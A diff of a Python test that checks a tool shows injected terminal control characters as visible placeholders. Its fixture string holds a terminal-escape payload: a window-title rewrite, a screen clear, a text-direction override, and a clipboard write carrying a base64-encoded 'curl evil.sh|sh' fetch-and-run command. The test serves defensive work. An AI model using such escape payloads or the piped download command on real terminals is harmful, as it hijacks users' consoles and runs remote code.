@@ -52,7 +52,8 @@ def test_prefix_context_and_recall_mark_the_controls(attacked):
     assert out.returncode == 0, out.stderr
     text = out.stdout.decode()
     assert "奶茶 ␛]2;PWNED-TITLE␇␛]52;c;Y3VybCBldmlsLnNofHNo␇␛[2J\\u202eevil" in text
-    assert "\\u009b31m" in text and "␡␍back" in text
+    # the fence already shows C1 controls as {U+009B} and a CR as a line break of the title (⏎)
+    assert "{U+009B}31m" in text and "␡⏎back" in text
 
     out = run("recall", "console", "今天想喝奶茶", "--context", sock=d.sock)
     assert out.returncode == 0 and node["id"] in out.stdout.decode()
